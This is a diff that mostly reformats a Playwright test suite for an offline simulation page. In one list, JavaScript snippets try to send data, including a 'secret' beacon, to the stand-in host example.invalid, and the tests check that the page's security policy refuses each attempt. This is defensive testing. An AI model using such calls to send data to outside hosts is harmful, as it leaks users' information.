@@ -82,8 +82,12 @@ def test_a_what_if_by_keyboard_only(ready: Opened) -> None:
     assert page.evaluate("document.activeElement.id") == "run"
     assert "pools.managers.posts=6" in page.evaluate("location.hash")
     assert "Managers 4 posts 6 posts" in " ".join(ready.said("#parts").split())
-    assert ready.said("#command").startswith("mashsim compare own.toml --set pools.managers.posts=6 --seed 1 --replications 2")
-    bands = page.evaluate("Array.from(document.querySelectorAll('#parts .wide svg')).map(svg => svg.querySelector('title').textContent)")
+    assert ready.said("#command").startswith(
+        "mashsim compare own.toml --set pools.managers.posts=6 --seed 1 --replications 2"
+    )
+    bands = page.evaluate(
+        "Array.from(document.querySelectorAll('#parts .wide svg')).map(svg => svg.querySelector('title').textContent)"
+    )
     assert any("contacts open" in band for band in bands)
 
 
@@ -164,7 +168,11 @@ def test_it_stops_while_it_runs_and_what_is_done_stays(ready: Opened) -> None:
     ready.page.click("#run")  # goes on where it stopped: one more run
     ready.wait("#progress-text", f"All {done + 1} runs are done.")
     assert f"simulated {done + 1} times" in ready.said("#facts")
-    alone = json.loads(handle_text(json.dumps({"do": "sum up", "text": SHORT, "name": "own.toml", "seed": 1, "replications": done + 1})))
+    alone = json.loads(
+        handle_text(
+            json.dumps({"do": "sum up", "text": SHORT, "name": "own.toml", "seed": 1, "replications": done + 1})
+        )
+    )
     assert ready.said("#findings") == alone["page"]["findings"][0]
 
 
@@ -192,7 +200,9 @@ def test_what_is_wrong_is_said_beside_the_controls(ready: Opened) -> None:
     for content, words in files.items():
         ready.page.set_input_files("#own", {"name": "own.toml", "mimeType": "application/toml", "buffer": content})
         ready.wait("#faults", f"There is a problem\n{words}", patience=10)
-    ready.use(QUEUE.read_text(encoding="utf-8").replace("2023-12-31", "2023-01-15"))  # the page lives on; a queue has none of the parts
+    ready.use(
+        QUEUE.read_text(encoding="utf-8").replace("2023-12-31", "2023-01-15")
+    )  # the page lives on; a queue has none of the parts
     ready.page.fill("#control-pools-server-posts", "2")
     ready.run()
     assert ready.page.locator("#faults").is_hidden()
@@ -232,7 +242,10 @@ TRIES = [
     ("connect-src", "fetch('https://example.invalid/x').catch(() => 0)"),
     ("connect-src", "navigator.sendBeacon('https://example.invalid/x', 'secret')"),
     ("connect-src", "try { new WebSocket('wss://example.invalid/x') } catch (refusal) { 0 }"),
-    ("img-src", "new Promise(done => { const i = new Image(); i.onerror = () => done(0); i.src = 'https://example.invalid/x.png'; })"),
+    (
+        "img-src",
+        "new Promise(done => { const i = new Image(); i.onerror = () => done(0); i.src = 'https://example.invalid/x.png'; })",
+    ),
     (
         "form-action",
         "{ const f = document.createElement('form'); f.action = 'https://example.invalid/'; document.body.append(f); f.submit(); }",
@@ -243,7 +256,9 @@ TRIES = [
 def test_no_request_leaves_the_file_and_a_beacon_is_refused(ready: Opened, browser: Browser, built: Path) -> None:
     assert [address for address in ready.asked if not address.startswith((built.as_uri(), "blob:", "data:"))] == []
     found = opened(browser, built)
-    found.page.evaluate("document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective))")
+    found.page.evaluate(
+        "document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective))"
+    )
     for directive, script in TRIES:
         found.page.evaluate("window.refused = []")
         found.page.evaluate(script)
@@ -267,7 +282,9 @@ def test_no_violation_of_wcag_and_nothing_wider_than_the_screen(ready: Opened) -
     ready.page.set_viewport_size({"width": WIDTHS[0], "height": 900})
 
 
-def test_the_address_holds_the_changes_and_the_scenario_can_be_taken_away(browser: Browser, built: Path, ready: Opened) -> None:
+def test_the_address_holds_the_changes_and_the_scenario_can_be_taken_away(
+    browser: Browser, built: Path, ready: Opened
+) -> None:
     settings = "pools.managers.posts=5.5&pools.managers.policy=due_soonest&opening_backlog.0.contacts=60"
     people = "add=social_workers%2C2%2Cpermanent%2C2026-06-01%2C2026-08-31&add=managers%2C0.5%2Cagency%2C%2C"
     rest = "from=2026-06-01&to=2026-12-31&seed=4&runs=7"
@@ -319,7 +336,13 @@ def test_the_same_scenario_and_seed_give_the_same_bytes_in_python_in_node_and_in
         pytest.skip("node is not on this machine; the browser gave the same bytes")
     (tmp_path / "packages.zip").write_bytes(packages(fetched.wheels))
     (tmp_path / "requests.json").write_text(json.dumps(requests), encoding="utf-8")
-    command = [node, str(Path(__file__).with_name("page_in_node.mjs")), str(fetched.pyodide), "packages.zip", "requests.json"]
+    command = [
+        node,
+        str(Path(__file__).with_name("page_in_node.mjs")),
+        str(fetched.pyodide),
+        "packages.zip",
+        "requests.json",
+    ]
     done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, encoding="utf-8", timeout=PATIENCE)
     assert done.returncode == 0, done.stderr[:2000]
     assert json.loads(done.stdout) == here
